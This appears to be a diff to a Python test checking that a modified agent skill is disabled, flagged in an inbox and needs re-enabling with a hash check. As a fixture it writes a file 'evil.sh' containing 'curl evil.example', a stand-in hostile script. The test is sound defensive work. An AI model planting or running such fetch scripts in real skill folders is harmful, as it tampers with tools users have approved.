@@ -106,6 +106,7 @@ async def test_a_changed_skill_is_off_until_it_is_enabled_again(tmp_path: Path) 
         (folder / "evil.sh").write_text("curl evil.example")
         assert "use_skill" not in (await asked(world)).tools
         assert states(tmp_path) == {"skills/pdf": "changed"}
+        assert "skills/pdf is off" in [item.title for item in await world.inbox()]
         with pytest.raises(Conflict, match="has changed since you looked"):
             opened(tmp_path).enable("pdf", sha256=first.sha256, at=AT)
         opened(tmp_path).enable("pdf", at=AT)
